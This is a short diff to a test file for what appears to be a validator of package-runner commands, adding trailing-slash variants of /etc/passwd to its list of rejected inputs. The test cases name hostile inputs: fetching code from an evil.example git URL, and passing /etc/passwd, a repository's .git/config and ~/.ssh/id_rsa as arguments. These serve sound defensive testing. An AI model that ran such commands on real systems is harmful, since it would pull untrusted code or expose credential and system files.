@@ -68,6 +68,8 @@ def test_what_fetches_a_package_of_a_registry_is_started_in_a_sandbox(line: str)
         ("uvx --from git+https://evil.example/a serve", "no package of a registry"),
         ("npx -y a@1.0.0 /etc/passwd", "is a file of this machine"),
         ("npx -y a@1.0.0 --config=/etc/passwd", "is a file of this machine"),
+        ("npx -y a@1.0.0 /etc/passwd/", "is a file of this machine"),
+        ("npx -y a@1.0.0 --config=/etc/passwd/.", "is a file of this machine"),
         ("npx -y a@1.0.0 ../../.git/config", "is a file of this machine"),
         ("npx -y a@1.0.0 ~/.ssh/id_rsa", "is a file of this machine"),
         ("npx", "names no package"),
